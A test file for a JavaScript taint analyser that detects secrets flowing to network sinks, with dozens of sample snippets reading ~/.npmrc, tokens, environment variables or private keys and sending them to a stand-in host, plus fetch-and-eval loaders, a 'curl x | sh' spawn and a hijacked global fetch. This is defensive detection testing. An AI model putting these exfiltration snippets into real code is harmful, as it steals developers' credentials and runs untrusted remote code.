import { describe, expect, it } from 'vitest';
import { flows, follow } from './sample.js';

const SECRET = "require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')";

const IMPORT_STAR =
  "var __importStar = (this && this.__importStar) || function (mod) { if (mod && mod.__esModule) return mod; var result = {}; if (mod != null) for (var k in mod) if (k !== 'default') result[k] = mod[k]; result['default'] = mod; return result; };";
const AWAITER =
  "var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) { function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); } return new (P || (P = Promise))(function (resolve, reject) { function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } } function rejected(value) { try { step(generator['throw'](value)); } catch (e) { reject(e); } } function step(result) { result.done ? resolve(result.value) : adopt(result.value).then(fulfilled, rejected); } step((generator = generator.apply(thisArg, _arguments || [])).next()); }); };";
const GENERATOR =
  "var __generator = (this && this.__generator) || function (thisArg, body) { var _ = { label: 0, sent: function () { if (t[0] & 1) throw t[1]; return t[1]; }, trys: [], ops: [] }, f, y, t, g = {}; return g.next = verb(0), g['throw'] = verb(1), g['return'] = verb(2), g; function verb(n) { return function (v) { return step([n, v]); }; } function step(op) { while (_) try { if (f = 1, y && (t = op[0] & 2 ? y['return'] : op[0] ? y['throw'] : y.next) && !(t = t.call(y, op[1])).done) return t; switch (op[0]) { case 0: case 1: t = op; break; case 4: _.label++; return { value: op[1], done: false }; case 3: _.label = op[1]; continue; } op = body.call(thisArg, _); } catch (e) { op = [6, e]; y = 0; } finally { f = t = 0; } return { value: op[1], done: true }; } };";

/** One way each that a secret may take to a request. */
const WAYS: Record<string, string> = {
  variable: `const s = ${SECRET}; fetch('https://c.example', { method: 'POST', body: s });`,
  'callback (err, data)':
    "require('fs').readFile(require('path').join(require('os').homedir(), '.npmrc'), (e, d) => fetch('https://c.example', { body: d }));",
  promise:
    "require('fs').promises.readFile(process.env.HOME + '/.npmrc').then((d) => d.toString('base64')).then((s) => fetch('https://c.example/' + s));",
  'a promise on one way, a value on the other': `Promise.resolve(process.argv[2]).then((x) => (x ? require('fs').promises.readFile(process.env.HOME + '/.npmrc') : '')).then((s) => s && fetch('https://c.example/' + s));`,
  'promise all':
    "Promise.all([1, require('fs/promises').readFile(require('os').homedir() + '/.npmrc')]).then(([, s]) => fetch('https://c.example', { body: s }));",
  'async and await': `async function main() { const s = await require('fs').promises.readFile(require('os').homedir() + '/.npmrc'); await fetch('https://c.example', { body: s }); } main();`,
  'new Promise': `new Promise((ok) => ok(${SECRET})).then((s) => fetch('https://c.example', { body: s }));`,
  generator: `function* g() { yield 1; yield ${SECRET}; } for (const s of g()) fetch('https://c.example', { body: s });`,
  class: `class A { #s = ${SECRET}; get s() { return this.#s; } send() { fetch('https://c.example', { body: this.s }); } } new A().send();`,
  'class and super': `class A { constructor(s) { this.s = s; } } class B extends A { constructor() { super(${SECRET}); } go() { fetch('https://c.example', { body: this.s }); } } new B().go();`,
  closure: `const make = (s) => () => fetch('https://c.example', { body: s }); make(${SECRET})();`,
  destructuring: `const { a: [, { s }] } = { a: [0, { s: ${SECRET} }] }; fetch('https://c.example', { body: s });`,
  spread: `const o = { ...{ s: ${SECRET} } }; fetch('https://c.example', { ...{ body: JSON.stringify(o) } });`,
  'event emitter': `const E = require('events'); const e = new E(); e.on('x', (s) => fetch('https://c.example', { body: s })); e.emit('x', ${SECRET});`,
  'own emitter class': `class M extends require('events') {} const m = new M(); m.on('x', (s) => fetch('https://c.example', { body: s })); m.emit('x', ${SECRET});`,
  timer: `setTimeout((s) => fetch('https://c.example', { body: s }), 10, ${SECRET});`,
  stream:
    "require('fs').createReadStream(require('os').homedir() + '/.npmrc').pipe(require('https').request({ hostname: 'c.example', method: 'PUT' }));",
  pipeline:
    "require('stream').pipeline(require('fs').createReadStream(require('os').homedir() + '/.npmrc'), require('zlib').createGzip(), require('https').request('https://c.example'), () => {});",
  'pipeline that is waited for, into an own stream': `class Sink extends require('stream').Writable { parts = []; _write(chunk, e, next) { this.parts.push(chunk); next(); } } (async () => { const sink = new Sink(); await require('stream/promises').pipeline(require('fs').createReadStream(require('os').homedir() + '/.npmrc'), sink); fetch('https://c.example', { body: Buffer.concat(sink.parts) }); })();`,
  'functions between the streams of a pipeline': `(async () => { let o = ''; await require('stream/promises').pipeline(require('fs').createReadStream(require('os').homedir() + '/.npmrc'), async function* (from) { for await (const part of from) yield part.toString().toUpperCase(); }, async (from) => { for await (const part of from) o += part; }); fetch('https://c.example', { body: o }); })();`,
  'options of a stream': `const parts = []; require('fs').createReadStream(require('os').homedir() + '/.npmrc').pipe(new (require('stream').Writable)({ write(chunk, e, next) { parts.push(chunk); next(); }, final(done) { fetch('https://c.example', { body: Buffer.concat(parts) }); done(); } }));`,
  'file as channel': `require('fs').writeFileSync('/tmp/.x', ${SECRET}); fetch('https://c.example', { body: require('fs').readFileSync('/tmp/.x') });`,
  map: `const m = new Map([['k', ${SECRET}]]); fetch('https://c.example', { body: m.get('k') });`,
  'query string': `fetch('https://c.example/?' + new URLSearchParams({ s: ${SECRET} }));`,
  reduce: `fetch('https://c.example', { body: ['.npmrc'].map((f) => require('fs').readFileSync(require('os').homedir() + '/' + f)).reduce((a, b) => a + b, '') });`,
  cipher: `const c = require('crypto').createCipheriv('aes-256-cbc', k, v); fetch('https://c.example', { body: c.update(${SECRET}) + c.final('hex') });`,
  'bind and apply': `const send = fetch.bind(null, 'https://c.example'); send.apply(null, [{ body: ${SECRET} }]);`,
  'optional chaining': `globalThis?.fetch?.('https://c.example', { body: ${SECRET} });`,
  'tagged template': `const t = (s, ...v) => v[0]; fetch('https://c.example', { body: t\`x\${${SECRET}}\` });`,
  'labelled loop': `let s = ''; a: for (const f of ['.npmrc', '.netrc']) { for (;;) { s += require('fs').readFileSync(require('os').homedir() + '/' + f); continue a; } } fetch('https://c.example', { body: s });`,
  'form that is submitted': `const F = require('form-data'); const f = new F(); f.append('k', ${SECRET}); f.submit('https://c.example/u', () => {});`,
  'client with a base address': `const c = require('axios').create({ baseURL: 'https://c.example/api' }); c.post('health', { s: ${SECRET} });`,
  'module copied by a compiler': `${IMPORT_STAR} var fs = __importStar(require('fs')); var os = __importStar(require('os')); fetch('https://c.example', { body: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') });`,
  'async function compiled to ES5': `${AWAITER} ${GENERATOR} var fs = require('fs'); function run() { return __awaiter(this, void 0, void 0, function () { var s; return __generator(this, function (_a) { switch (_a.label) { case 0: if (!process.env.X) return [3, 2]; return [4, Promise.resolve(1)]; case 1: _a.sent(); _a.label = 2; case 2: return [4, fs.promises.readFile(require('os').homedir() + '/.npmrc')]; case 3: s = _a.sent(); return [4, fetch('https://c.example', { body: s })]; case 4: _a.sent(); return [2]; } }); }); } run();`,
  'worker data': `new (require('worker_threads').Worker)("fetch('https://c.example', { body: require('worker_threads').workerData.s })", { eval: true, workerData: { s: ${SECRET} } });`,
  'one of two commands of one call': `const s = ${SECRET}; fetch(process.platform === 'win32' ? 'https://c.example/?w' : 'https://c.example/?' + s);`,
  'default of a missing field': `const o = globalThis.x || {}; const { host = 'c.example' } = o; fetch(\`https://\${host}/\`, { body: ${SECRET} });`,
  'switch on the unknown': `switch (process.platform) { case 'win32': break; default: fetch('https://c.example', { body: ${SECRET} }); }`,
};

describe('taint', () => {
  for (const [way, code] of Object.entries(WAYS)) {
    it(`follows a secret through ${way}`, () => {
      const seen = flows(follow(code), 'secret.file', 'net.out');
      expect(seen?.target).toMatch(/c\.example/);
      expect(seen?.unasked).toBe(true);
      expect(seen?.steps.at(-1)?.role).toBe('sink');
      expect(seen?.steps[0]?.role).toBe('source');
    });
  }

  it('keeps what was sent apart from what was not', () => {
    const result = follow(`const s = ${SECRET}; fetch('https://c.example', { body: 'hello' }); console.log(s.length);`);
    expect(flows(result, 'secret.file', 'net.out')).toBeUndefined();
    expect(result.observations.some((each) => each.sink === 'net.out')).toBe(true);
  });

  it('tells one variable from the whole environment', () => {
    expect(flows(follow("fetch('https://c.example/' + process.env.NODE_ENV)"), 'env.all', 'net.out')).toBeUndefined();
    expect(flows(follow("fetch('https://c.example/' + process.env.NODE_ENV)"), 'env.named', 'net.out')).toBeDefined();
    expect(flows(follow("fetch('https://c.example/' + process.env.NPM_TOKEN)"), 'secret.env', 'net.out')).toBeDefined();
    for (const whole of [
      'JSON.stringify(process.env)',
      'Object.entries(process.env).join()',
      '{ ...process.env }',
      "Object.keys(process.env).map((k) => process.env[k]).join('')",
    ]) {
      expect(
        flows(follow(`fetch('https://c.example', { body: ${whole} })`), 'env.all', 'net.out'),
        whole,
      ).toBeDefined();
    }
  });

  it('sees code from the network and from decoders run', () => {
    expect(
      flows(
        follow(
          "require('https').get('https://c.example/x', (r) => { let b = ''; r.on('data', (d) => { b += d; }); r.on('end', () => new Function('require', b)(require)); });",
        ),
        'net.response',
        'code.eval',
      ),
    ).toBeDefined();
    expect(
      flows(
        follow("(async () => eval(await (await fetch('https://c.example')).text()))()"),
        'net.response',
        'code.eval',
      ),
    ).toBeDefined();
  });

  it('makes parameters of exported functions sources, and says that nobody asked yet', () => {
    const result = follow(
      "exports.sign = (message, privateKey) => { fetch('https://c.example', { method: 'POST', body: privateKey }); };",
    );
    const seen = flows(result, 'param.secret', 'net.out');
    expect(seen?.unasked).toBe(false);
    expect(seen?.taints.map((taint) => taint.detail)).toContain('privateKey');
  });

  it('reports replaced globals and what the replacement does with its arguments', () => {
    const result = follow(
      "const real = globalThis.fetch; globalThis.fetch = (u, o) => { require('http').request('http://192.0.2.1').end(JSON.stringify(o)); return real(u, o); };",
    );
    expect(result.observations.find((each) => each.sink === 'monkeypatch')?.api).toBe('global.fetch');
    expect(
      result.observations.some(
        (each) => each.sink === 'net.out' && each.taints.some((taint) => taint.source === 'param'),
      ),
    ).toBe(true);
  });

  it('follows both ways of an unknown condition from the same state, and joins them', () => {
    const lines = follow(
      "const { exec } = require('child_process'); let c = 'a'; if (process.env.X) { c = 'b'; exec('then ' + c); } else exec('else ' + c); exec('after ' + c);",
    ).observations.map((each) => each.target);
    expect(lines).toEqual(expect.arrayContaining(['then b', 'else a']));
    expect(lines).not.toContain('else b');
  });

  it('names guards', () => {
    const kinds = (code: string) =>
      follow(code)
        .observations.find((each) => each.sink === 'process.spawn')
        ?.guards.map((guard) => guard.kind);
    expect(kinds("if (process.env.CI) require('child_process').exec('id')")).toEqual(['ci']);
    expect(kinds("if (Date.now() > 1) require('child_process').exec('id')")).toEqual(['date']);
    expect(kinds("if (Math.random() < 0.1) require('child_process').exec('id')")).toEqual(['random']);
    expect(kinds("const id = 'a' + Math.random(); if (id[3] === '7') require('child_process').exec('id')")).toEqual([
      'random',
    ]);
    // A random name is no dice.
    expect(
      kinds("const id = 'a_' + Math.random().toString(36); if (self.x !== id) require('child_process').exec('id')"),
    ).toEqual(['other']);
    expect(kinds("if (require('os').hostname() !== 'x') return; require('child_process').exec('id')")).toEqual([
      'hostname',
    ]);
    expect(
      kinds("if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'x') require('child_process').exec('id')"),
    ).toEqual(['locale']);
  });

  it('gives whole command lines', () => {
    const line = (code: string) => follow(code).observations.find((each) => each.sink === 'process.spawn')?.target;
    expect(line("require('child_process').spawn('sh', ['-c', 'curl x | sh'])")).toBe("sh -c 'curl x | sh'");
    expect(line("require('node:child_process').execFileSync('git', ['push', '--force'])")).toBe('git push --force');
    expect(line("const { promisify } = require('util'); promisify(require('child_process').exec)('id -u')")).toBe(
      'id -u',
    );
    expect(line("require('child_process').fork(__dirname + '/w.js')")).toBe('node ./w.js');
  });
});

describe('modules', () => {
  it('follows re-exports, JSON, imports and self references', () => {
    const result = follow(
      {
        'index.js':
          "import { send as s, secret } from './barrel.js'; import cfg from '#cfg'; import { host } from 'sample/host.js'; s(cfg.url + host, secret());",
        'barrel.js': "export * from './send.js'; export { default as secret } from './secret.js';",
        'send.js': "export function send(url, body) { return fetch(url, { method: 'POST', body }); }",
        'secret.js': `export default () => ${SECRET};`,
        'cfg.json': '{"url": "https://c.exa"}',
        'host.js': "export const host = 'mple';",
      },
      'import',
      { type: 'module', imports: { '#cfg': './cfg.json' } },
    );
    expect(flows(result, 'secret.file', 'net.out')?.target).toBe('https://c.example');
  });

  it('follows module maps of bundlers', () => {
    const result = follow(
      `(() => { var m = { 1: (e, t, n) => { e.exports = n(2)(${SECRET}); }, 2: (e) => { e.exports = (s) => fetch('https://c.example', { body: s }); } }; var c = {}; function n(i) { if (c[i]) return c[i].exports; var o = (c[i] = { exports: {} }); m[i](o, o.exports, n); return o.exports; } n(1); })();`,
    );
    expect(flows(result, 'secret.file', 'net.out')).toBeDefined();
  });

  it('says in which phases files are reached', () => {
    const result = follow({ 'index.js': "require('./a'); process.env.X;", 'a.js': '' }, 'install');
    expect([...(result.reached.get('a.js') ?? [])]).toEqual(['install']);
  });
});
